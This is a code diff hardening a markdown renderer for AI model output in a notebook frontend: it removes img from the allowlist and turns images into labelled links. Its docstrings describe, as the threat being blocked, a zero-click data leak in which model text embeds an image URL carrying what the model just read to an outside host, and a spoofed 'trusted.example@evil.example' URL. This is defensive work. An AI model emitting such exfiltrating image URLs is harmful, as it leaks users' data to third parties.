@@ -12,6 +12,17 @@ would run on every reopen. We never sanitize HTML by hand:
   http, https and mailto. It is the line of defence that does not depend on
   markdown-it getting every corner of CommonMark right.
 
+Nothing in model text may make a frontend fetch a URL by itself: an image's URL can
+carry what the model just read (``![x](https://host/p.png?d=<the data>)``), and
+JupyterLab would load it at once and on every reopen of the saved notebook (a
+zero-click leak). So a markdown image is rendered as a *link* whose text names the
+image and the host it points at (``[image: chart — host.example]``), and ``img`` is
+not in the allowlist at all. Raw HTML that could fetch (``<img>``, ``srcset``,
+``<video poster>``, SVG ``<image href>``, CSS ``url()``) is shown as text by
+markdown-it, and nh3 would drop it anyway: no tag or attribute allowed here loads
+anything. Images the kernel produced (figures, MCP images) are ``image/png``
+outputs of their own and never pass through here.
+
 Math is parsed by ``dollarmath`` (plus a small rule for ``\\(..\\)`` and ``\\[..\\]``),
 so ``$a_1 * b_1$`` is not mangled by emphasis, and it is emitted as text with its
 delimiters: Jupyter typesets ``text/html`` outputs with MathJax from the DOM text.
@@ -35,13 +46,12 @@ from typing import Any
 #: Tags markdown-it produces; nothing else survives cleaning.
 ALLOWED_TAGS = frozenset(
     "p h1 h2 h3 h4 h5 h6 em strong del s code pre blockquote ul ol li "
-    "table thead tbody tr th td a img hr br span div".split()
+    "table thead tbody tr th td a hr br span div".split()
 )
 #: Attributes per tag (``rel`` on ``a`` is set by nh3 itself). No ``style``, no ``on*``.
 ALLOWED_ATTRIBUTES: dict[str, set[str]] = {
     "*": set(),  # ammonia otherwise allows `lang` and `title` on every tag
     "a": {"href", "title"},
-    "img": {"src", "alt", "title"},
     "code": {"class"},
     "pre": {"class"},
     "span": {"class"},
@@ -94,6 +104,54 @@ def markdown_block(text: str) -> str:
     # `re`'s cache and evicted the user's own patterns from it.
     body = _MATH_REF.sub(lambda m: maths[int(m.group(2))] if m.group(1) == token else m.group(0), body)
     return f'<div class="kimi-md">{body}</div>'
+
+
+def markdown_text(text: str) -> str:
+    """``text`` shown literally inside a markdown line (a footer, a model id from a server).
+
+    HTML-escaping alone leaves markdown syntax live: ``![x](https://host/p.png)`` in a
+    model id would become an image. Every ASCII punctuation character becomes a
+    character reference, which CommonMark shows as that character and never parses
+    as syntax; newlines become spaces so the text stays on its line.
+    """
+    text = re.sub(r"\r\n?|\n", " ", text)
+    return _MD_PUNCT.sub(lambda m: f"&#{ord(m.group(0))};", text)
+
+
+def image_label(alt: str, url: str) -> str:
+    """The visible text that stands for a model-text image: ``[image: alt — host]``.
+
+    The host is the one a browser would go to (see `url_host`), so the user sees
+    where a click leads before clicking; a ``data:`` URL names no host.
+    """
+    alt = " ".join(alt.split())
+    where = "inline data, not shown" if url.lower().startswith("data:") else url_host(url) or "a local path"
+    return f"[image: {alt} — {where}]" if alt else f"[image — {where}]"
+
+
+def url_host(url: str) -> str:
+    """The host (with a non-default port) a browser would contact for ``url``; "" if relative.
+
+    Follows the WHATWG URL rules that matter for display, not `urllib`'s: the
+    authority ends at ``/``, ``\\``, ``?`` or ``#``; userinfo is everything up to
+    the *last* ``@`` (``https://trusted.example@evil.example/`` goes to evil.example);
+    percent escapes in the host are decoded.
+    """
+    from urllib.parse import unquote
+
+    m = re.match(r"(?:([A-Za-z][A-Za-z0-9+.-]*):)?([/\\]*)([^/\\?#]*)", url.strip())
+    scheme = (m.group(1) or "").lower() if m else ""
+    # `http:host/x` and `https:\\\host` still name a host (special schemes skip slashes).
+    if m is None or (len(m.group(2)) < 2 and scheme not in ("http", "https")):
+        return ""
+    authority = m.group(3).rsplit("@", 1)[-1]
+    host, _, port = authority.rpartition(":") if not authority.endswith("]") else (authority, "", "")
+    if not host or not port.isdigit():
+        host, port = authority, ""
+    if port in ("", {"http": "80", "https": "443"}.get(scheme, "")):
+        port = ""
+    host = unquote(host).lower()
+    return f"{host}:{port}" if port else host
 
 
 def fence(text: str, lang: str = "") -> str:
@@ -189,6 +247,7 @@ def escape(text: str) -> str:
 # -- internals ----------------------------------------------------------------------------
 
 _PRE = re.compile(r"<pre\b.*?</pre>", re.DOTALL)
+_MD_PUNCT = re.compile(r"[!-/:-@\[-`{-~]")
 _BLANKS = re.compile(r"\n\s*")
 #: A math placeholder: `_new_token()` (``kimimath`` + 16 hex digits), its index, ``z``.
 _MATH_REF = re.compile(r"(kimimath[0-9a-f]{16})(\d+)z")
@@ -216,6 +275,7 @@ def _markdown() -> Any:
         md.core.ruler.push("kimi_align", _table_align)
         for kind in ("math_inline", "math_inline_double", "math_block"):
             md.add_render_rule(kind, _render_math)
+        md.add_render_rule("image", _render_image)
         _md = md
     return _md
 
@@ -268,6 +328,27 @@ def _render_math(self: Any, tokens: Any, idx: int, options: Any, env: Any) -> st
     else:
         inner = escape(tex)
     return f'<{tag} class="math">{inner}</{tag}>' + ("\n" if tag == "div" else "")
+
+
+def _render_image(self: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
+    """An image as a link to it, never ``<img>``: loading it would be a request the user never made.
+
+    Inside a link (``[![x](img)](href)``) the label is plain text, since links can't nest.
+    The link gets the ``rel`` every link gets from nh3 (no referrer, no opener).
+    """
+    tok = tokens[idx]
+    src = str(tok.attrGet("src") or "")
+    alt = self.renderInlineAsText(tok.children or [], options, env)
+    depth = 0
+    for earlier in tokens[:idx]:
+        depth += {"link_open": 1, "link_close": -1}.get(earlier.type, 0)
+    if depth > 0:  # a click goes where the outer link points: naming the image's host would mislead
+        alt = " ".join(alt.split())
+        return escape(f"[image: {alt}]" if alt else "[image]")
+    label = escape(image_label(alt, src))
+    if src.lower().startswith("data:"):
+        return label
+    return f'<a href="{escape(src)}">{label}</a>'
 
 
 def _keep_attribute(tag: str, name: str, value: str) -> str | None:
